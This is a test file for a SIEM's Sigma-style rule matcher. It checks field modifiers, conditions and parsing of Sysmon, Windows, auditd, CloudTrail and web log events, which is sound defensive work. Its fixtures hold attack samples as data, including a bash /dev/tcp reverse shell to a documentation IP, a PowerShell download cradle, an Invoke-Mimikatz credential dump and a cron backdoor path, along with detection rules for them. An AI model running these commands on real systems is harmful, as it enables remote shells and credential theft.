/**
 * The matcher over events made by the project's own parsers from raw lines
 * written after the vendors' documentation (Sysmon and Windows Security event
 * schemas, Linux audit and sshd/sudo formats, CloudTrail record contents,
 * nginx/Apache access log formats, Sysmon for Linux records).
 */
import { randomUUID } from 'node:crypto';
import { createParser } from '@siem/parsers';
import type { RawRecord } from '@siem/schema';
import { describe, expect, it } from 'vitest';
import { compileRules } from './rule-set';
import type { Rule } from './schema';
import { validateRule, type CompileOptions } from './validate';

function record(line: string): RawRecord {
  return { payload: Buffer.from(line), receivedAt: '2026-11-23T11:59:59.000Z', sourceAddress: '192.0.2.10', input: 'test' };
}

function parse(type: string, line: string): Record<string, unknown> {
  const result = createParser(type).parse(record(line));
  if (!result.ok) throw new Error(`${type} refused the line: ${result.error.message}`);
  return result.event as Record<string, unknown>;
}

/** A Sysmon event in the {"Event":{"System","EventData"}} shape of EVTX converters. */
function sysmonEvtx(eventId: number, data: Record<string, string>): Record<string, unknown> {
  return parse(
    'windows',
    JSON.stringify({
      Event: {
        System: { Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } }, EventID: eventId, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: 'ws1.corp.example' },
        EventData: data,
      },
    }),
  );
}

/** A Windows event as Winlogbeat ships it. */
function winlogbeat(channel: string, provider: string, eventId: number, data: Record<string, string>): Record<string, unknown> {
  return parse(
    'windows',
    JSON.stringify({
      '@timestamp': '2026-11-23T11:00:00.000Z',
      event: { code: eventId, provider, kind: 'event' },
      host: { name: 'ws1' },
      winlog: { channel, provider_name: provider, event_id: eventId, computer_name: 'ws1.corp.example', event_data: data },
    }),
  );
}

const PROCESS_CREATE = {
  UtcTime: '2026-11-23 10:59:58.123',
  ProcessGuid: '{5770385f-c22a-43e0-bf4c-06f5698ffbd9}',
  ProcessId: '4242',
  Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  OriginalFileName: 'PowerShell.EXE',
  CommandLine: 'powershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
  CurrentDirectory: 'C:\\Users\\alice\\',
  User: 'CORP\\alice',
  IntegrityLevel: 'High',
  ParentProcessId: '1200',
  ParentImage: 'C:\\Windows\\explorer.exe',
  ParentCommandLine: 'C:\\Windows\\Explorer.EXE',
};

let counter = 0;
function rule(logsource: Rule['logsource'], detection: Record<string, unknown>, extra: Partial<Rule> = {}, options?: CompileOptions): Rule {
  counter++;
  return validateRule({ id: randomUUID(), title: `rule ${counter}`, level: 'high', logsource, detection, ...extra }, options);
}

const WINDOWS_PROCESS = { product: 'windows', category: 'process_creation' };

function matches(rules: Rule | Rule[], event: Record<string, unknown>, options?: CompileOptions): boolean {
  const set = compileRules(Array.isArray(rules) ? rules : [rules], options);
  expect(set.size).toBe(Array.isArray(rules) ? rules.length : 1);
  return set.match(event).length > 0;
}

function processRule(selection: Record<string, unknown>, options?: CompileOptions): Rule {
  return rule(WINDOWS_PROCESS, { selection, condition: 'selection' }, {}, options);
}

describe('compileRules – field modifiers', () => {
  const event = sysmonEvtx(1, PROCESS_CREATE);

  it('rules – plain values match whole, case-insensitively; wildcards * and ? inside values', () => {
    expect(matches(processRule({ IntegrityLevel: 'high' }), event)).toBe(true);
    expect(matches(processRule({ IntegrityLevel: 'hig' }), event)).toBe(false);
    // As in pySigma, \* is an escaped star: a backslash before a wildcard is written \\*.
    expect(matches(processRule({ Image: 'c:\\windows\\\\*\\powershell.exe' }), event)).toBe(true);
    expect(matches(processRule({ Image: 'c:\\windows\\*\\powershell.exe' }), event)).toBe(false);
    expect(matches(processRule({ IntegrityLevel: 'H?gh' }), event)).toBe(true);
    expect(matches(processRule({ IntegrityLevel: 'H?h' }), event)).toBe(false);
  });

  it('rules – contains, startswith, endswith; a value list means any', () => {
    expect(matches(processRule({ 'CommandLine|contains': '-encodedcommand' }), event)).toBe(true);
    expect(matches(processRule({ 'Image|endswith': ['\\pwsh.exe', '\\powershell.exe'] }), event)).toBe(true);
    expect(matches(processRule({ 'CommandLine|startswith': 'powershell' }), event)).toBe(true);
    expect(matches(processRule({ 'CommandLine|startswith': 'cmd' }), event)).toBe(false);
  });

  it('rules – |contains|all needs every value; |all with one value is that value', () => {
    expect(matches(processRule({ 'CommandLine|contains|all': ['-noprofile', '-encodedcommand'] }), event)).toBe(true);
    expect(matches(processRule({ 'CommandLine|contains|all': ['-noprofile', '-windowstyle'] }), event)).toBe(false);
    expect(matches(processRule({ 'CommandLine|contains|all': '-NoProfile' }), event)).toBe(true);
  });

  it('rules – cased compares case-sensitively', () => {
    expect(matches(processRule({ 'CommandLine|contains|cased': '-NoProfile' }), event)).toBe(true);
    expect(matches(processRule({ 'CommandLine|contains|cased': '-noprofile' }), event)).toBe(false);
  });

  it('rules – escaped wildcards match the characters themselves; a lone backslash stays a backslash', () => {
    const literal = sysmonEvtx(1, { ...PROCESS_CREATE, CommandLine: 'cmd.exe /c dir C:\\Temp\\*.tmp ?' });
    expect(matches(processRule({ 'CommandLine|endswith': '\\*.tmp \\?' }), literal)).toBe(true);
    expect(matches(processRule({ 'CommandLine|endswith': '\\*.tmp \\?' }), sysmonEvtx(1, { ...PROCESS_CREATE, CommandLine: 'type a.tmp ?' }))).toBe(false);
    expect(matches(processRule({ 'CommandLine|contains': 'C:\\Temp\\\\*.tmp' }), literal)).toBe(true);
    expect(matches(processRule({ 'CommandLine|contains': 'C:\\Temp\\' }), literal)).toBe(true);
  });

  it('rules – re is case-sensitive unless i; m and s change ^, $ and .', () => {
    expect(matches(processRule({ 'CommandLine|re': '-[Ee]ncodedCommand [A-Za-z0-9+/=]{20,}' }), event)).toBe(true);
    expect(matches(processRule({ 'CommandLine|re': 'NOPROFILE' }), event)).toBe(false);
    expect(matches(processRule({ 'CommandLine|re|i': 'NOPROFILE' }), event)).toBe(true);
    const multiline = sysmonEvtx(1, { ...PROCESS_CREATE, CommandLine: 'first line\nsecond line' });
    expect(matches(processRule({ 'CommandLine|re': '^second' }), multiline)).toBe(false);
    expect(matches(processRule({ 'CommandLine|re|m': '^second' }), multiline)).toBe(true);
    expect(matches(processRule({ 'CommandLine|re': 'line.second' }), multiline)).toBe(false);
    expect(matches(processRule({ 'CommandLine|re|s': 'line.second' }), multiline)).toBe(true);
  });

  it('rules – windash matches -, /, en dash, em dash and horizontal bar', () => {
    const selection = { 'CommandLine|windash|contains': ' -encodedcommand ' };
    for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015']) {
      const variant = sysmonEvtx(1, { ...PROCESS_CREATE, CommandLine: `powershell.exe ${dash}EncodedCommand SQBFAFgA` });
      expect(matches(processRule(selection), variant), dash).toBe(true);
    }
    const other = sysmonEvtx(1, { ...PROCESS_CREATE, CommandLine: 'powershell.exe +EncodedCommand SQBFAFgA' });
    expect(matches(processRule(selection), other)).toBe(false);
  });

  it('rules – base64 and base64offset|contains find an encoded string at any byte offset; wide (UTF-16LE) first', () => {
    const text = 'IEX (New-Object Net.WebClient).DownloadString';
    for (const prefix of ['', 'a', 'ab']) {
      const encoded = Buffer.from(`${prefix}${text}`).toString('base64');
      const variant = sysmonEvtx(1, { ...PROCESS_CREATE, CommandLine: `powershell -enc ${encoded}` });
      expect(matches(processRule({ 'CommandLine|base64offset|contains': 'DownloadString' }), variant), `offset ${prefix.length}`).toBe(true);
    }
    const wide = Buffer.from('IEX (New-Object', 'utf16le').toString('base64');
    expect(matches(processRule({ 'CommandLine|wide|base64offset|contains': 'New-Object' }), sysmonEvtx(1, { ...PROCESS_CREATE, CommandLine: `powershell -enc ${wide}` }))).toBe(true);
    expect(matches(processRule({ 'CommandLine|base64offset|contains': 'Invoke-Mimikatz' }), event)).toBe(false);
    const exact = Buffer.from('whoami').toString('base64');
    expect(matches(processRule({ 'CommandLine|base64|contains': 'whoami' }), sysmonEvtx(1, { ...PROCESS_CREATE, CommandLine: `x ${exact} y` }))).toBe(true);
  });

  it('rules – utf16le, utf16be and utf16 encode before base64', () => {
    const variants: [string, Buffer][] = [
      ['utf16le', Buffer.from('calc', 'utf16le')],
      ['utf16be', Buffer.from('calc', 'utf16le').swap16()],
      ['utf16', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('calc', 'utf16le')])],
    ];
    for (const [modifier, bytes] of variants) {
      const variant = sysmonEvtx(1, { ...PROCESS_CREATE, CommandLine: `run ${bytes.toString('base64')}` });
      expect(matches(processRule({ [`CommandLine|${modifier}|base64|contains`]: 'calc' }), variant), modifier).toBe(true);
    }
  });

  it('rules – null matches a missing field; exists tests presence', () => {
    expect(matches(processRule({ Hashes: null }), event)).toBe(true);
    expect(matches(processRule({ IntegrityLevel: null }), event)).toBe(false);
    expect(matches(processRule({ 'Hashes|exists': false }), event)).toBe(true);
    expect(matches(processRule({ 'IntegrityLevel|exists': true }), event)).toBe(true);
    expect(matches(processRule({ 'IntegrityLevel|exists': false }), event)).toBe(false);
  });

  it('rules – fieldref compares two fields of the event', () => {
    const same = sysmonEvtx(1, { ...PROCESS_CREATE, ParentImage: PROCESS_CREATE.Image.toUpperCase() });
    expect(matches(processRule({ 'ParentImage|fieldref': 'Image' }), same)).toBe(true);
    expect(matches(processRule({ 'ParentImage|fieldref': 'Image' }), event)).toBe(false);
    expect(matches(processRule({ 'CommandLine|fieldref|contains': 'OriginalFileName' }), event)).toBe(true);
  });

  it('rules – expand takes placeholder values from the configured table', () => {
    const options = { placeholders: { admin_tools: ['\\powershell.exe', '\\cmd.exe'] } };
    expect(matches(processRule({ 'Image|expand|endswith': '%admin_tools%' }, options), event, options)).toBe(true);
  });

  it('rules – cidr matches IPv4 and IPv6 networks; gt, gte, lt, lte compare numbers', () => {
    const network = { product: 'windows', category: 'network_connection' };
    const connection = (ip: string, port: string) =>
      sysmonEvtx(3, { Image: 'C:\\Windows\\System32\\rundll32.exe', Protocol: 'tcp', Initiated: 'true', SourceIp: '10.0.0.5', SourcePort: '49723', DestinationIp: ip, DestinationPort: port });
    const cidr = rule(network, { selection: { 'DestinationIp|cidr': ['192.168.0.0/16', 'fd00::/8'] }, condition: 'selection' });
    expect(matches(cidr, connection('192.168.7.1', '445'))).toBe(true);
    expect(matches(cidr, connection('fd12:3456:789a::1', '445'))).toBe(true);
    expect(matches(cidr, connection('2001:db8::1', '445'))).toBe(false);
    expect(matches(cidr, connection('8.8.8.8', '445'))).toBe(false);
    const high = rule(network, { selection: { 'DestinationPort|gte': 49152 }, condition: 'selection' });
    expect(matches(high, connection('8.8.8.8', '49152'))).toBe(true);
    expect(matches(high, connection('8.8.8.8', '443'))).toBe(false);
    expect(matches(rule(network, { s: { 'DestinationPort|gt': 442, 'SourcePort|lt': 50000 }, condition: 's' }), connection('8.8.8.8', '443'))).toBe(true);
    expect(matches(rule(network, { s: { 'DestinationPort|lte': 442 }, condition: 's' }), connection('8.8.8.8', '443'))).toBe(false);
  });
});

describe('compileRules – conditions', () => {
  const event = sysmonEvtx(1, PROCESS_CREATE);
  const detection = (condition: string | string[]) => ({
    selection_img: { 'Image|endswith': '\\powershell.exe' },
    selection_cli: { 'CommandLine|contains': '-EncodedCommand' },
    filter_parent: { 'ParentImage|endswith': '\\explorer.exe' },
    filter_other: { 'ParentImage|endswith': '\\services.exe' },
    condition,
  });
  const cases: [string | string[], boolean][] = [
    ['selection_img and selection_cli', true],
    ['selection_img and not filter_parent', false],
    ['selection_img and not filter_other', true],
    ['selection_img and not (filter_parent or filter_other)', false],
    ['not filter_parent or selection_cli', true],
    ['1 of selection_*', true],
    ['all of selection_*', true],
    ['all of filter_*', false],
    ['1 of filter_* and not all of filter_*', true],
    ['1 of them', true],
    ['all of them', false],
    [['all of filter_*', 'selection_img'], true],
    [['all of filter_*', 'filter_other'], false],
  ];
  for (const [condition, expected] of cases) {
    it(`rules – ${JSON.stringify(condition)} is ${expected}`, () => {
      expect(matches(rule(WINDOWS_PROCESS, detection(condition)), event)).toBe(expected);
    });
  }

  it('rules – a list of maps matches when any map matches', () => {
    const selection = [{ Image: 'nope' }, { 'OriginalFileName|cased': 'PowerShell.EXE', IntegrityLevel: 'High' }];
    expect(matches(rule(WINDOWS_PROCESS, { selection, condition: 'selection' }), event)).toBe(true);
  });

  it('rules – keyword lists search the message, and "1 of them" reaches them', () => {
    const sshd = parse('syslog', '<38>Jan 12 10:00:00 bastion sshd[2231]: Failed password for invalid user admin from 203.0.113.5 port 50022 ssh2');
    const keywordRule = rule({ product: 'linux', service: 'sshd' }, { keywords: ['Failed password for invalid user', 'Illegal user'], condition: '1 of them' });
    expect(matches(keywordRule, sshd)).toBe(true);
    const allKeywords = rule({ product: 'linux', service: 'sshd' }, { keywords: { '|all': ['failed password', 'port 50022'] }, condition: 'keywords' });
    expect(matches(allKeywords, sshd)).toBe(true);
    const accepted = parse('syslog', '<38>Jan 12 10:00:00 bastion sshd[2231]: Accepted publickey for alice from 203.0.113.5 port 50022 ssh2: ED25519 SHA256:abc');
    expect(matches(keywordRule, accepted)).toBe(false);
  });
});

describe('compileRules – log sources and parsers', () => {
  it('rules – matches Sysmon in the Winlogbeat shape and Security 4688 under process_creation', () => {
    const whoami = rule(WINDOWS_PROCESS, { selection: { 'Image|endswith': '\\whoami.exe', 'CommandLine|contains': '/priv' }, condition: 'selection' });
    const sysmon = winlogbeat('Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon', 1, {
      ...PROCESS_CREATE,
      Image: 'C:\\Windows\\System32\\whoami.exe',
      CommandLine: 'whoami /priv',
    });
    expect(matches(whoami, sysmon)).toBe(true);
    const security = winlogbeat('Security', 'Microsoft-Windows-Security-Auditing', 4688, {
      SubjectUserName: 'alice',
      SubjectDomainName: 'CORP',
      NewProcessId: '0x1a2c',
      NewProcessName: 'C:\\Windows\\System32\\whoami.exe',
      CommandLine: 'whoami /priv',
      ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
    });
    expect(matches(whoami, security)).toBe(true);
    const securityRule = rule({ product: 'windows', service: 'security' }, { selection: { EventID: 4688, SubjectUserName: 'alice' }, condition: 'selection' });
    expect(matches(securityRule, security)).toBe(true);
    expect(matches(securityRule, sysmon)).toBe(false);
  });

  it('rules – routes PowerShell script blocks to ps_script', () => {
    const script = winlogbeat('Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, {
      MessageNumber: '1',
      MessageTotal: '1',
      ScriptBlockText: 'Invoke-Mimikatz -DumpCreds',
      ScriptBlockId: 'e1f3c1a2-0000-4000-8000-000000000001',
    });
    expect(matches(rule({ product: 'windows', category: 'ps_script' }, { selection: { 'ScriptBlockText|contains': 'invoke-mimikatz' }, condition: 'selection' }), script)).toBe(true);
    expect(matches(rule(WINDOWS_PROCESS, { selection: { 'CommandLine|contains': 'mimikatz' }, condition: 'selection' }), script)).toBe(false);
  });

  it('rules – matches Sysmon for Linux records under Linux process_creation, file_event and network_connection', () => {
    const sysmonLinux = (eventId: number, data: Record<string, string>): Record<string, unknown> =>
      parse(
        'syslog',
        `<14>Nov 23 11:00:00 web-01 sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>${eventId}</EventID>` +
          '<Version>5</Version><Level>4</Level><TimeCreated SystemTime="2026-11-23T11:00:00.000000000Z"/><EventRecordID>7</EventRecordID>' +
          '<Channel>Linux-Sysmon/Operational</Channel><Computer>web-01</Computer><Security UserId="0"/></System><EventData>' +
          Object.entries(data).map(([name, value]) => `<Data Name="${name}">${value}</Data>`).join('') +
          '</EventData></Event>',
      );
    const linuxProcess = { product: 'linux', category: 'process_creation' };
    // Written as the corpus writes its Linux process_creation rules: Sigma field names of Sysmon, Unix paths.
    const reverseShell = rule(linuxProcess, {
      selection_img: { 'Image|endswith': ['/bash', '/dash', '/sh'] },
      selection_cli: { 'CommandLine|contains|all': ['-i', '/dev/tcp/'] },
      filter_root: { User: 'root', 'ParentImage|startswith': '/usr/sbin/' },
      condition: 'all of selection_* and not filter_root',
    });
    const started = sysmonLinux(1, {
      ProcessId: '31337',
      Image: '/usr/bin/bash',
      CommandLine: 'bash -i &gt;&amp; /dev/tcp/198.51.100.23/4444 0&gt;&amp;1',
      CurrentDirectory: '/var/www/html',
      User: 'www-data',
      ParentProcessId: '31300',
      ParentImage: '/usr/bin/python3.11',
      ParentCommandLine: 'python3 app.py',
    });
    expect(matches(reverseShell, started)).toBe(true);
    expect(matches(rule(linuxProcess, { selection: { 'process.parent.name': 'python3.11', 'process.command_line|contains': '/dev/tcp/' }, condition: 'selection' }), started)).toBe(true);
    expect(matches(reverseShell, sysmonLinux(1, { Image: '/usr/bin/bash', CommandLine: 'bash -c ls', User: 'www-data' }))).toBe(false);
    expect(matches(rule(WINDOWS_PROCESS, { selection: { 'CommandLine|contains': '/dev/tcp/' }, condition: 'selection' }), started)).toBe(false);

    const cron = sysmonLinux(11, { ProcessId: '31340', Image: '/usr/bin/cp', TargetFilename: '/etc/cron.d/backdoor', User: 'root' });
    expect(matches(rule({ product: 'linux', category: 'file_event' }, { selection: { 'TargetFilename|startswith': '/etc/cron.d/' }, condition: 'selection' }), cron)).toBe(true);
    expect(matches(reverseShell, cron)).toBe(false);

    const connect = sysmonLinux(3, { Image: '/usr/bin/bash', Protocol: 'tcp', Initiated: 'true', SourceIp: '10.20.0.5', SourcePort: '51544', DestinationIp: '198.51.100.23', DestinationPort: '4444' });
    expect(matches(rule({ product: 'linux', category: 'network_connection' }, { selection: { Initiated: 'true', DestinationPort: 4444, 'Image|endswith': '/bash' }, condition: 'selection' }), connect)).toBe(true);
  });

  it('rules – matches auditd records by type and arguments', () => {
    const execve = parse('auditd', 'type=EXECVE msg=audit(1700000000.123:42): argc=3 a0="chmod" a1="+s" a2="/tmp/x"');
    const suid = rule({ product: 'linux', service: 'auditd' }, { selection: { type: 'EXECVE', a0: 'chmod', 'a1|contains': '+s' }, condition: 'selection' });
    expect(matches(suid, execve)).toBe(true);
    expect(matches(suid, parse('auditd', 'type=EXECVE msg=audit(1700000000.123:43): argc=2 a0="ls" a1="-l"'))).toBe(false);
  });

  it('rules – matches sudo lines through the auth mapping', () => {
    const sudo = parse('linux_auth', 'Jan 12 10:00:00 host sudo:   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id');
    expect(matches(rule({ product: 'linux', service: 'sudo' }, { selection: { USER: 'root', 'COMMAND|endswith': '/id' }, condition: 'selection' }), sudo)).toBe(true);
  });

  it('rules – matches CloudTrail fields, also inside requestParameters kept as JSON text', () => {
    const trail = parse(
      'cloudtrail',
      JSON.stringify({
        eventVersion: '1.08',
        eventTime: '2026-01-12T10:00:00Z',
        eventSource: 'ec2.amazonaws.com',
        eventName: 'ModifyInstanceAttribute',
        awsRegion: 'us-east-1',
        sourceIPAddress: '198.51.100.7',
        userAgent: 'aws-cli/2.15.0',
        requestParameters: { instanceId: 'i-0abc', attribute: 'userData' },
        userIdentity: { type: 'IAMUser', arn: 'arn:aws:iam::123456789012:user/bob' },
      }),
    );
    const userData = rule(
      { product: 'aws', service: 'cloudtrail' },
      { selection: { eventSource: 'ec2.amazonaws.com', eventName: 'ModifyInstanceAttribute', 'requestParameters.attribute': 'userData', 'userIdentity.type': 'IAMUser' }, condition: 'selection' },
    );
    expect(matches(userData, trail)).toBe(true);
  });

  it('rules – matches web access log fields and keywords', () => {
    const access = parse('nginx_access', '203.0.113.9 - - [12/Jan/2026:10:00:00 +0000] "GET /index.php?cmd=whoami HTTP/1.1" 200 512 "-" "sqlmap/1.7"');
    const web = { category: 'webserver' };
    expect(matches(rule(web, { selection: { 'cs-uri-query|contains': 'cmd=', 'sc-status': 200, 'cs-method': 'GET' }, condition: 'selection' }), access)).toBe(true);
    expect(matches(rule(web, { keywords: ['sqlmap'], condition: 'keywords' }), access)).toBe(true);
    expect(matches(rule({ category: 'proxy' }, { selection: { 'c-useragent|contains': 'sqlmap' }, condition: 'selection' }), access)).toBe(false);
  });

  it('rules – pre-filters rules on literals of one or two characters (lookalike letters, emoji, ^^) without missing them', () => {
    const lookalike = processRule({ 'CommandLine|contains': ['\u0410', '\u0421', '^^'] });
    const plain = { ...PROCESS_CREATE, CommandLine: 'cmd.exe /c echo ok' };
    const set = compileRules([lookalike]);
    expect(set.match(sysmonEvtx(1, plain))).toEqual([]);
    expect(set.stats().get(lookalike.id)).toMatchObject({ evaluated: 0 });
    expect(set.match(sysmonEvtx(1, { ...plain, CommandLine: 'p\u043ewershell -c \u0441alc' })).length).toBe(1);
    expect(set.match(sysmonEvtx(1, { ...plain, CommandLine: 'c^^md /c whoami' })).length).toBe(1);
  });

  it('rules – counts a rule that throws on an event and goes on with the others', () => {
    const hostile = sysmonEvtx(1, PROCESS_CREATE);
    const winlog = hostile.winlog as Record<string, unknown>;
    const data = winlog.event_data as Record<string, unknown>;
    Object.defineProperty(data, 'CommandLine', {
      enumerable: true,
      get() {
        throw new Error('unreadable');
      },
    });
    // exists has no literal for the pre-filter (which skips a field it cannot read), so the predicate itself meets the throwing getter.
    const throwing = processRule({ 'CommandLine|exists': true });
    const fine = processRule({ 'Image|endswith': '\\powershell.exe' });
    const set = compileRules([throwing, fine]);
    expect(set.match(hostile).map((match) => match.rule.id)).toEqual([fine.id]);
    expect(set.stats().get(throwing.id)).toMatchObject({ errors: 1, matched: 0 });
    expect(set.stats().get(fine.id)).toMatchObject({ evaluated: 1, matched: 1, errors: 0 });
  });

  it('rules – leaves out disabled rules and rules whose log source no parser produces, with the reason', () => {
    const off = rule(WINDOWS_PROCESS, { s: { Image: 'x' }, condition: 's' }, { enabled: false });
    const okta = rule({ product: 'okta', service: 'okta' }, { s: { eventType: 'user.session.start' }, condition: 's' });
    const set = compileRules([off, okta]);
    expect(set.size).toBe(0);
    expect(set.skipped.get(off.id)?.disabledReason).toContain('enabled: false');
    expect(set.skipped.get(okta.id)?.disabledReason).toContain('no parser here produces');
  });

  it('rules – returns each match with the rule and its ATT&CK ids', () => {
    const tagged = processRule({ 'Image|endswith': '\\powershell.exe' });
    const withTags = validateRule({ ...tagged, tags: ['attack.execution', 'attack.t1059.001'] });
    const [match] = compileRules([withTags]).match(sysmonEvtx(1, PROCESS_CREATE));
    expect(match?.attack).toEqual({ techniques: ['T1059.001'], tactics: ['execution'] });
  });
});
